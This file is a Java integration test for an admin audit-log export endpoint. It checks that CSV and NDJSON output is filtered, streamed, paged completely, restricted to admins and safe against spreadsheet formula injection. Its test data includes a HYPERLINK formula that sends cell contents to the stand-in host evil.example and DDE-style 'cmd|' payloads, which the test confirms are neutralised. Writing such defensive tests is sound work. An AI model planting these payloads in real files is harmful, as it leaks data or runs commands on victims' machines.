package com.sundispatch.monitoring;

import java.sql.Timestamp;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

import com.sundispatch.support.Api;
import com.sundispatch.support.IntegrationTest;

import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

/** Admins download the audit trail as CSV or NDJSON, filtered like the list, streamed, formula-safe. */
class AuditExportIT extends IntegrationTest {

    private static final String EXPORT = "/api/v1/admin/audit-events/export";

    @Autowired
    JdbcTemplate jdbc;

    private Api.Response export(String query, String token) {
        return api.send("GET", EXPORT + "?" + query, null, token, Map.of("Accept", "*/*"));
    }

    /** A customer whose failed sign-in carries a user agent that a spreadsheet would run as a formula. */
    private String customerWithHostileUserAgent(String agent) {
        String email = registerCustomer();
        api.send("POST", "/api/v1/auth/login", Map.of("email", email, "password", "Wrong-password-1"), null,
                Map.of("User-Agent", agent));
        return api.get("/api/v1/me", login(email, PASSWORD).access()).json().path("id").asString();
    }

    @Test
    void csvExportHoldsTheFilteredEventsAsAnAttachmentWithFormulasNeutralised() {
        String agent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
        String userId = customerWithHostileUserAgent(agent);
        customerWithHostileUserAgent("Someone-else/1.0");
        Api.Response r = export("format=csv&userId=" + userId, adminToken());
        assertThat(r.status()).as(r.toString()).isEqualTo(200);
        assertThat(r.header("Content-Type")).startsWith("text/csv");
        assertThat(r.header("Content-Disposition")).startsWith("attachment").contains("filename=\"audit-events-")
                .contains(".csv");
        List<String> lines = r.body().lines().toList();
        assertThat(lines.get(0)).isEqualTo("id,type,occurredAt,userId,ip,userAgent,outcome,detail");
        assertThat(lines.subList(1, lines.size())).isNotEmpty().allSatisfy(l -> assertThat(l).contains(userId));
        assertThat(r.body()).contains("\"LOGIN_FAILED\"", "\"REGISTERED\"", "\"LOGIN_SUCCEEDED\"")
                .doesNotContain("Someone-else");
        // The formula starts with a quote mark and its own quotes are doubled, inside one quoted cell.
        assertThat(r.body()).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",");
        assertThat(lines.stream().filter(l -> l.contains("HYPERLINK"))).allSatisfy(l ->
                assertThat(l).doesNotContain(",\"=HYPERLINK", ",=HYPERLINK"));

        String typeOnly = export("format=csv&type=LOGIN_FAILED&userId=" + userId, adminToken()).body();
        assertThat(typeOnly.lines().skip(1).toList()).hasSize(1).allSatisfy(l -> assertThat(l)
                .contains("\"LOGIN_FAILED\""));
        String future = clock.instant().plusSeconds(86_400).toString();
        assertThat(export("format=csv&userId=" + userId + "&from=" + future, adminToken()).body().lines())
                .hasSize(1);
    }

    @Test
    void everyFormulaStarterIsNeutralised() {
        // Tab and CR cannot lead a header value (HTTP trims or refuses them): AuditExportFormatTest covers those.
        for (String start : List.of("=", "+", "-", "@")) {
            String userId = customerWithHostileUserAgent(start + "cmd|' /C calc'!A0");
            String body = export("format=csv&type=LOGIN_FAILED&userId=" + userId, adminToken()).body();
            assertThat(body).as(start).contains(",\"'" + start + "cmd|' /C calc'!A0\",");
        }
    }

    @Test
    void ndjsonExportIsOneJsonObjectPerLine() {
        String userId = customerWithHostileUserAgent("Line\\nbreaker {\"x\":1}");
        Api.Response r = export("format=ndjson&userId=" + userId, adminToken());
        assertThat(r.status()).isEqualTo(200);
        assertThat(r.header("Content-Type")).startsWith("application/x-ndjson");
        assertThat(r.header("Content-Disposition")).startsWith("attachment").contains(".ndjson");
        List<JsonNode> rows = r.body().lines().map(Api.JSON::readTree).toList();
        assertThat(rows).isNotEmpty().allSatisfy(row -> assertThat(row.path("userId").asString()).isEqualTo(userId));
        assertThat(rows).extracting(row -> row.path("type").asString()).contains("LOGIN_FAILED", "REGISTERED");
        assertThat(rows).anySatisfy(row -> assertThat(row.path("userAgent").asString())
                .isEqualTo("Line\\nbreaker {\"x\":1}"));
        // Newest first, like the list.
        List<String> times = rows.stream().map(row -> row.path("occurredAt").asString()).toList();
        assertThat(times).isSortedAccordingTo((a, b) -> Instant.parse(b).compareTo(Instant.parse(a)));
    }

    @Test
    void exportIsForAdminsOnlyAndValidated() {
        assertThat(export("format=csv", null).status()).isEqualTo(401);
        assertThat(export("format=csv", newCustomerSession().access()).status()).isEqualTo(403);
        assertThat(export("format=xml", adminToken()).code()).isEqualTo("validation_failed");
        assertThat(export("format=csv&type=drop%20table", adminToken()).code()).isEqualTo("validation_failed");
        assertThat(export("format=csv&from=yesterday", adminToken()).status()).isEqualTo(400);
        assertThat(api.get(EXPORT, adminToken()).status()).isEqualTo(400);
        // The export itself is audited, with who asked for what.
        String admin = adminToken();
        String adminId = api.get("/api/v1/me", admin).json().path("id").asString();
        assertThat(export("format=ndjson&type=LOGIN_FAILED", admin).status()).isEqualTo(200);
        String audited = api.get("/api/v1/admin/audit-events?type=AUDIT_EXPORTED&userId=" + adminId + "&size=1",
                admin).body();
        assertThat(audited).contains("ndjson", "LOGIN_FAILED");
    }

    @Test
    void fiveThousandEventsExportCompletelyAcrossPages() {
        String userId = UUID.randomUUID().toString();
        Instant base = clock.instant().minusSeconds(10_000);
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < 5_000; i++) {
            // Pairs share a timestamp, so the keyset must also order by id to lose and repeat nothing.
            rows.add(new Object[] { UUID.randomUUID().toString(), "BULK_TEST", Timestamp.from(base.plusSeconds(i / 2)),
                    userId, "203.0.113.9", "Bulk/1.0", "INFO", "{\"n\":\"" + i + "\"}" });
        }
        jdbc.batchUpdate("insert into audit_events (id, type, occurred_at, user_id, ip, user_agent, outcome, detail) "
                + "values (?, ?, ?, ?, ?, ?, ?, ?)", rows);

        Api.Response csv = export("format=csv&userId=" + userId, adminToken());
        assertThat(csv.status()).isEqualTo(200);
        List<String> lines = csv.body().lines().skip(1).toList();
        assertThat(lines).hasSize(5_000);
        Set<String> ids = new HashSet<>();
        lines.forEach(l -> ids.add(l.substring(1, 37)));
        assertThat(ids).hasSize(5_000);

        Api.Response ndjson = export("format=ndjson&type=BULK_TEST&userId=" + userId, adminToken());
        assertThat(ndjson.body().lines().count()).isEqualTo(5_000);
        assertThat(Api.JSON.readTree(ndjson.body().lines().findFirst().orElseThrow()).path("detail").asString())
                .isIn("{\"n\":\"4999\"}", "{\"n\":\"4998\"}");
    }
}
